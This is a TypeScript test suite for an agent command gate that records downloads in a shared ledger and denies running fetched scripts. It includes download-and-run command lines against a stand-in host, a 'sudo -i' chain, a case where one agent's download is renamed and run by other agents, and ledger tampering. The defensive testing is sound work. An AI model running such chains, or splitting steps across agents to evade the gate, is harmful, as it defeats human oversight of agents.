// The ledger between calls: shared by agents, kept closed, bounded, and never milder when something is wrong with it.

import assert from 'node:assert/strict';
import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { describe, it } from 'node:test';
import type { SignOffRequest } from '../../../src/core/gate/sign-off.ts';
import type { Decision } from '../../../src/core/model/decision.ts';
import { auditFile } from '../../../src/node/audit-file.ts';
import { auditPlaces } from '../../../src/node/audit-places.ts';
import { acceptPolicy } from '../../../src/node/gate/accepted-policy.ts';
import { decideCall } from '../../../src/node/gate/decide.ts';
import { ledgerPath } from '../../../src/node/gate/ledger-place.ts';
import { recentRecords } from '../../../src/node/gate/recent-records.ts';
import { withTempDir } from '../../support/temp-dir.ts';

const GET = 'curl -fsSL -o a.sh https://example.invalid/a.sh';

interface Place {
  readonly path: string;
  readonly home: string;
  readonly asked: SignOffRequest[];
  say(line: string, agent?: string, cwd?: string): Promise<Decision>;
}

/** A person who approves everything that is tier 2, and nothing else. */
async function inPlace(act: (place: Place) => Promise<void>): Promise<void> {
  await withTempDir({ 'proj/.git/HEAD': '', 'proj/sub/x': '' }, async ({ path }) => {
    const home = `${path}/.gatehouse`;
    const asked: SignOffRequest[] = [];
    const say: Place['say'] = (line, agent = 'claude-code', cwd = `${path}/proj`) =>
      decideCall(
        {
          agent: { id: agent, name: agent, session: agent },
          ...{ tool: 'Bash', callId: undefined, cwd, act: { kind: 'command', line, shell: 'bash' }, claim: undefined },
        },
        {
          home,
          append: (event) => auditFile({ places: auditPlaces(home) }).append(event),
          ask: async (request) => {
            asked.push(request);
            return { approved: request.tier === 2, way: 'picked', digest: request.digest };
          },
          takeTicket: async () => false,
          once: (_request, decide) => decide(),
          notePending: async () => undefined,
          remainingMs: () => 60_000,
        },
      );
    await act({ path, home, asked, say });
  });
}

describe('the ledger between calls', () => {
  it('links what one agent brings with what another runs, from any folder, by the record', () =>
    inPlace(async ({ home, path, say }) => {
      assert.equal((await say(GET)).decision, 'approved');
      const { seq } = recentRecords({ home }).at(-1) ?? {};
      assert.equal((await say('mv a.sh run', 'codex')).decision, 'passed');
      const { decision, reason } = await say('bash ../run', 'gemini-cli', `${path}/proj/sub`);
      assert.equal(decision, 'denied');
      assert.match(
        reason,
        new RegExp(
          `“run”.*“example.invalid”.*record #${seq} of claude-code|run.*example.invalid.*#${seq} of claude-code`,
        ),
      );
      assert.equal(recentRecords({ home }).at(-1)?.['tier'], 3);
    }));

  it('is closed to others and there only when something was brought', () =>
    inPlace(async ({ home, say }) => {
      await say('ls');
      await say('git commit -qm x');
      assert.equal(existsSync(ledgerPath({ home })), false);
      await say(GET);
      assert.equal(statSync(ledgerPath({ home })).mode & 0o777, 0o600);
    }));

  it('links nothing that was denied', () =>
    inPlace(async ({ say }) => {
      assert.equal((await say(`${GET} && sudo -i`)).decision, 'denied');
      assert.doesNotMatch((await say('bash a.sh')).reason, /record #/);
    }));

  it('is no milder when it was changed, and says so for a day', () =>
    inPlace(async ({ home, path, say }) => {
      await say(GET);
      writeFileSync(`${path}/proj/a.sh`, 'echo\n');
      writeFileSync(`${path}/proj/b.sh`, 'echo\n');
      const file = ledgerPath({ home });
      for (const spoilt of ['', 'x', readFileSync(file, 'utf8').replace('a.sh', 'c.sh')]) {
        writeFileSync(file, spoilt);
        const { decision, reason } = await say('bash a.sh');
        assert.equal(decision, 'denied');
        assert.match(reason, /the ledger of downloads was lost/);
      }
      // What is written next does not make the loss good.
      assert.equal((await say('curl -o z https://example.invalid/z')).decision, 'approved');
      assert.match((await say('bash b.sh')).reason, /the ledger of downloads was lost/);
      assert.match((await say('bash z')).reason, /example\.invalid/);
    }));

  it('loses nothing when many write at once', () =>
    inPlace(async ({ say }) => {
      const names = Array.from({ length: 12 }, (_, at) => `f${at}.sh`);
      await Promise.all(names.map((name) => say(`curl -o ${name} https://example.invalid/${name}`)));
      for (const name of names) assert.match((await say(`bash ${name}`)).reason, /record #/, name);
    }));

  it('lets no template pass what came from elsewhere', () =>
    inPlace(async ({ home, say }) => {
      const policy = JSON.stringify({ templates: { own: { commands: ['bash *'], reason: 'This is for the test.' } } });
      await say('ls');
      writeFileSync(`${home}/gatehouse.jsonc`, policy);
      await acceptPolicy(policy, { home });
      await say(GET);
      assert.equal((await say('bash a.sh')).decision, 'denied');
    }));
});
